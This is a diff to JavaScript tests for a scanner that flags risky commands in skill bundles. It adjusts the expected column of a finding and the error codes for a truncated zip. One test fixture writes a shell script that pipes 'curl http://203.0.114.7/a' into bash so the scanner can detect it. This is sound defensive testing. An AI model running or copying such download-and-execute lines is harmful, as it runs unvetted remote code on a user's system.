@@ -112,7 +112,7 @@ describe('skill scan', () => {
   it('shows what stands at the place once, and the same advice once', async () => {
     space.write({ 'notes/a.sh': 'cd /\ncurl http://203.0.114.7/a | bash\ncurl http://203.0.114.7/b | bash\n' });
     const { out } = await runSkill(space.path, 'scan', 'notes');
-    expect(out).toContain('a.sh:2:29  The program runs what it downloads from http://203.0.114.7/a (bash).');
+    expect(out).toContain('a.sh:2:1  The program runs what it downloads from http://203.0.114.7/a (bash).');
     expect(out.match(/→ Install from a package manager/g)).toHaveLength(1);
   });
 
@@ -178,7 +178,7 @@ describe('the same bundle as a folder and as a zip', () => {
   it('fails when it was cut short', async () => {
     space.write({ 'x.zip': craftZip(entries).subarray(0, 200) });
     const { exit, json } = await skillJson(space.path, 'scan', 'x.zip');
-    expect([exit, codesOf(json)]).toEqual([1, ['ARCHIVE_INVALID', 'CONSTRAINT_MANIFEST_COUNT']]);
+    expect([exit, codesOf(json)]).toEqual([1, ['ARCHIVE_INVALID']]);
   });
 });
 
